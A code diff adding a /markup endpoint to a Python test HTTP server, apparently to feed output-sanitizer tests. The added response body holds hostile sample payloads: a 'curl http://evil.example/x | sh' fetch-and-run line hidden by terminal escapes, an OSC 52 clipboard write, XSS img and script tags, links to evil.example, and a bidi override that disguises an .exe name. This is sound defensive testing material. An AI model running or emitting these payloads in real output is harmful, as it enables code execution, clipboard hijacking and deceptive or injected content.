@@ -17,6 +17,7 @@ Paths:
   /echo               200, the request line and headers as text
   /redirect           302 to /ok
   /redirect-loop      302 to itself
+  /markup             200, a body of terminal escapes, bidi overrides and Markdown/HTML markup (output sanitizer tests)
 Runs until killed.
 """
 
@@ -84,6 +85,13 @@ class Handler(http.server.BaseHTTPRequestHandler):
         elif path == "/echo":
             lines = [self.requestline] + [f"{name}: {value}" for name, value in self.headers.items()]
             self.reply(200, "\n".join(lines) + "\n", content_type="text/plain")
+        elif path == "/markup":
+            body = (
+                "\x1b]52;c;cHduZWQ=\x07\x1b[2J\x1b[31mred <img src=x onerror=alert(1)> [click](http://evil.example/) "
+                "![i](http://evil.example/i.png) <script>alert(2)</script> ``` \u202egnp.exe \u009b31m "
+                "<http://evil.example/auto> &amp;\n$ curl http://evil.example/x | sh\r\x1b[A\n"
+            )
+            self.reply(200, body, content_type="text/plain")
         elif path == "/redirect":
             self.reply(302, "", headers=[("Location", "/ok")])
         elif path == "/redirect-loop":
